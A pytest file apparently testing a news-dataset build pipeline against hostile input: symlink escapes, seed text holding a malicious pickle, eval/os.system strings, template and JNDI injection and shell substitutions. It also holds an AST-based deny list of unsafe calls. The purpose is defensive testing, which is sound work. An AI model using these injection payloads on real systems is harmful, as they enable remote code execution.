"""Hostile input: no path out of the seeds folder is followed; nothing from data is executed or unpickled;
loading runs no remote code."""

from __future__ import annotations

import ast
import os
import pickle
import shutil

import pytest

import russia_israel_news as rin
from build_dataset.build import build
from build_dataset.shard import pipeline
from build_dataset.shard.pipeline import BuildError
from conftest import DIST, ROOT, SEEDS

GOOD = (SEEDS / "003_0cfae077b6775c94.txt").read_text(encoding="utf-8")
SECRET = "TOP SECRET: this file is outside the seeds folder."


@pytest.fixture()
def outside(tmp_path):
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET + "\n\n" + GOOD, encoding="utf-8")
    return folder


def seeds_folder(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "good.txt").write_text(GOOD, encoding="utf-8")
    return seeds


@pytest.mark.parametrize("make", ["file", "folder", "chain", "relative", "not-a-page"])
def test_a_link_out_of_the_seeds_folder_is_never_followed(tmp_path, outside, make):
    seeds = seeds_folder(tmp_path)
    name = "notes.md" if make == "not-a-page" else "evil.txt"
    if make in ("file", "not-a-page"):
        (seeds / name).symlink_to(outside / "secret.txt")
    elif make == "folder":
        (seeds / name).symlink_to(outside, target_is_directory=True)
    elif make == "chain":  # a link inside to a link that leaves
        (seeds / "hop").symlink_to(outside / "secret.txt")
        (seeds / name).symlink_to(seeds / "hop")
    else:
        (seeds / name).symlink_to(os.path.join("..", "outside", "secret.txt"))
    for quarantine in (False, True):
        with pytest.raises(BuildError) as err:
            pipeline.run(seeds, quarantine=quarantine)
        assert f"{seeds / name}: is a link that points outside the seeds folder (never followed)" in str(err.value)
        assert SECRET not in str(err.value)


def test_a_link_inside_the_seeds_folder_is_read(tmp_path):
    seeds = seeds_folder(tmp_path)
    (seeds / "alias.txt").symlink_to("good.txt")
    done = pipeline.run(seeds)
    assert [r.page.id for r in done.results] == ["alias", "good"]
    assert done.results[0].article["text"] == done.results[1].article["text"]


def test_code_and_pickles_in_a_seed_are_text_never_run(tmp_path):
    marker = tmp_path / "PWNED"

    class Payload:
        def __reduce__(self):
            return os.system, (f"touch {marker}",)

    hostile = [
        pickle.dumps(Payload(), protocol=0).decode("ascii").replace("\n", " "),  # a text pickle, on one line
        f"__import__('os').system('touch {marker}')",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} ${jndi:ldap://example.invalid/a} $(touch /tmp/x) `id`",
    ]
    lines = GOOD.split("\n")
    page = "\n".join(lines[:7] + [line for h in hostile for line in (h, "")] + lines[7:])
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "hostile.txt").write_text(page, encoding="utf-8")
    out = tmp_path / "out"
    build(seeds, out, previous=tmp_path / "no-previous")
    assert not marker.exists()
    stored = set(rin.load(config="lines", format="arrow", dist_dir=out).column("text").to_pylist())
    assert all(h in stored for h in hostile)


SOURCES = sorted([*(ROOT / "build_dataset").rglob("*.py"), *(ROOT / "russia_israel_news").rglob("*.py"),
                  ROOT / "hatch_build.py"])
UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "marshal", "shelve"}
UNSAFE_CALLS = {"eval", "exec", "compile", "__import__"}  # builtins (re.compile is fine)
UNSAFE_METHODS = {"unsafe_load", "full_load", "system", "popen", "load_dataset"}


def unsafe_uses(source: str, name: str) -> list[str]:
    """Code (not comments or strings) in ``source`` that could run or unpickle data."""
    found = []
    for node in ast.walk(ast.parse(source)):
        where = f"{name}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Import):
            found += [f"{where}: import {a.name}" for a in node.names if a.name.split(".")[0] in UNSAFE_MODULES]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in UNSAFE_MODULES:
            found.append(f"{where}: from {node.module} import")
        elif isinstance(node, ast.Call):
            func = node.func
            called = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
            if (isinstance(func, ast.Name) and called in UNSAFE_CALLS) or called in UNSAFE_METHODS:
                found.append(f"{where}: {called}()")
            if called == "load" and isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "yaml":
                found.append(f"{where}: yaml.load()")
            for kw in node.keywords:
                if kw.arg in ("trust_remote_code", "shell") and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    found.append(f"{where}: {kw.arg}={ast.unparse(kw.value)}")
    return found


def test_no_source_runs_or_unpickles_anything():
    assert len(SOURCES) > 20
    assert [u for path in SOURCES for u in unsafe_uses(path.read_text(encoding="utf-8"), str(path.relative_to(ROOT)))] == []


def test_the_scan_finds_what_it_looks_for():
    """The scan above is not blind: it flags each pattern, and not the words in comments or strings."""
    bad = ("import pickle\nfrom marshal import loads\neval('1')\nre.compile('x')\nimport yaml\nyaml.load(s)\n"
           "load_dataset('x', trust_remote_code=True)\nsubprocess.run('ls', shell=True)\n"
           "# pickle.loads in a comment is fine\nx = 'eval(1)'\n")
    assert [u.split(": ", 1)[1] for u in unsafe_uses(bad, "bad.py")] == [
        "import pickle", "from marshal import", "eval()", "yaml.load()", "load_dataset()", "trust_remote_code=True",
        "shell=True"]


def test_load_unpickles_nothing_and_runs_no_loading_script(monkeypatch, tmp_path, version):
    import datasets

    def forbidden(*args, **kwargs):
        raise AssertionError("load() must not unpickle or run a loading script")

    for module, name in ((pickle, "load"), (pickle, "loads"), (pickle, "Unpickler"), (datasets, "load_dataset")):
        monkeypatch.setattr(module, name, forbidden)
    dist = tmp_path / "dist"
    shutil.copytree(DIST / version, dist / version)
    for config in ("articles", "lines"):
        assert rin.load(config=config, dist_dir=dist).num_rows > 0
        assert len(rin.load(config=config, format="pandas", dist_dir=dist)) > 0
        assert rin.load(config=config, format="arrow", dist_dir=dist).num_rows > 0
